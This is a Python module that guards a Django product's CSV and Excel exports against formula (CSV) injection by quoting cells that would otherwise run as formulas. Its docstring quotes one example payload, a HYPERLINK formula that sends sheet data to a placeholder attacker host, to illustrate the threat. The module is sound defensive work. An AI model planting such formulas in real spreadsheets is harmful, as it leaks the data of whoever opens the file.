"""Every CSV and Excel file the product writes goes through here, so no cell opens as a live formula.

A spreadsheet evaluates a cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (Excel also takes the full-width
forms of those four, and skips leading spaces before them), or with a tab, carriage return or NUL. Partners' files,
case summaries, names and purposes typed on the pages can begin that way: ``=HYPERLINK("http://evil.example/?d="&A3)``
would send the sheet's data away when an officer opens the export. Following OWASP's CSV injection guidance, such a
string is written with a single quote in front (``'=HYPERLINK(…)``), so a spreadsheet takes it as text.

Only strings are touched. Numbers, dates and blanks are written as they are (a negative number stays a number), and
so is a string that is only a number (``-12`` or ``-0.5``), since a spreadsheet reads that as the number, not as a
formula. In Excel files strings are always written as text cells (``write_string``), never through xlsxwriter's
``write()``, which turns a string beginning with ``=`` into a formula; the workbook is made with that conversion (and
the one into links) off as well. The product writes no formulas of its own: its totals are worked out in Python and
written as numbers.

An export's own importer (the Delivery Plan workbook) reads its cells back through :func:`restore`.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import IO, Any, Protocol

import xlsxwriter
from django.http import HttpResponse

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# What a spreadsheet evaluates when a cell's text begins with it (after any leading spaces)...
FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")  # the last four: full-width = + - @
# ...and what starts a formula even before any space is skipped.
CONTROL_STARTS = frozenset("\t\r\0")
# ASCII digits only: Python's \d takes any script's digits, a spreadsheet does not ("+\u0966" would run).
_PLAIN_NUMBER = re.compile(
    r"[+-]?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?", re.ASCII
)  # ASCII: a spreadsheet reads no other digits

Cell = str | int | float | Decimal | date | datetime | None


def is_live(value: str) -> bool:
    """Whether a spreadsheet would take this text as a formula, not as text or a number."""
    if not value:
        return False
    if value[0] in CONTROL_STARTS:
        return True
    stripped = value.lstrip()
    return stripped[:1] in FORMULA_STARTS and _PLAIN_NUMBER.fullmatch(value) is None


def neutralise(value: str) -> str:
    """The text a spreadsheet shows as text: a single quote in front when it would otherwise be a formula."""
    return "'" + value if is_live(value) else value


def restore(value: str) -> str:
    """The text before :func:`neutralise`, for an importer reading back a file this module wrote."""
    if value.startswith("'") and is_live(value[1:]):
        return value[1:]
    return value


def safe_row(row: Iterable[object]) -> list[object]:
    """A row as it may be written: strings neutralised, blanks empty, everything else unchanged."""
    return [neutralise(value) if isinstance(value, str) else "" if value is None else value for value in row]


class CsvWriter:
    """``csv.writer`` whose every cell goes through :func:`neutralise`."""

    def __init__(self, target: IO[str] | HttpResponse) -> None:
        self._writer = csv.writer(target)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_bytes(header: Sequence[str], rows: Iterable[Iterable[object]]) -> bytes:
    """A CSV file as UTF-8 with a byte-order mark, so Excel opens it as UTF-8."""
    out = io.StringIO()
    writer = CsvWriter(out)
    writer.writerow(header)
    writer.writerows(rows)
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def csv_response(filename: str, header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> HttpResponse:
    """A table as a CSV download (``filename`` without ``.csv``)."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    writer = CsvWriter(response)
    writer.writerow(header)
    writer.writerows(rows)
    return response


class Sheet(Protocol):
    """What this module uses of an xlsxwriter worksheet."""

    def write_string(self, row: int, col: int, string: str, cell_format: object = None) -> int: ...
    def write_blank(self, row: int, col: int, blank: None, cell_format: object = None) -> int: ...
    def write(self, row: int, col: int, *args: object) -> int: ...


def new_workbook(target: str | IO[bytes]) -> Any:
    """An xlsxwriter workbook that never turns a string into a formula or a link."""
    return xlsxwriter.Workbook(target, {"in_memory": True, "strings_to_formulas": False, "strings_to_urls": False})


def write_cell(sheet: Sheet, row: int, col: int, value: object, cell_format: object = None) -> None:
    """One cell: a string as neutralised text, a blank as blank, numbers, dates and booleans as themselves."""
    if value is None or value == "":
        sheet.write_blank(row, col, None, cell_format)
    elif isinstance(value, int | float | Decimal | date):
        sheet.write(row, col, value, cell_format)
    else:
        sheet.write_string(row, col, neutralise(str(value)), cell_format)


def write_row(sheet: Sheet, row: int, col: int, values: Iterable[object], cell_format: object = None) -> None:
    for offset, value in enumerate(values):
        write_cell(sheet, row, col + offset, value, cell_format)


def xlsx_bytes(title: str, header: Sequence[str], rows: Iterable[Sequence[Cell]], notes: Sequence[str] = ()) -> bytes:
    """A table on one sheet: a bold header row, the rows, then a blank row and the notes in the first column."""
    buffer = io.BytesIO()
    book = new_workbook(buffer)
    sheet = book.add_worksheet(title[:31])
    write_row(sheet, 0, 0, header, book.add_format({"bold": True}))
    last = 0
    for last, row in enumerate(rows, start=1):  # the notes go under the last row
        write_row(sheet, last, 0, row)
    for i, note in enumerate(notes, start=last + 2):
        write_cell(sheet, i, 0, note)
    sheet.set_column(0, 0, 14)
    sheet.set_column(1, len(header), 10)
    book.close()
    return buffer.getvalue()


def xlsx_response(
    filename: str, title: str, header: Sequence[str], rows: Sequence[Sequence[Cell]], notes: Sequence[str] = ()
) -> HttpResponse:
    """A table as an Excel download (``filename`` without ``.xlsx``)."""
    response = HttpResponse(xlsx_bytes(title, header, rows, notes), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
    return response
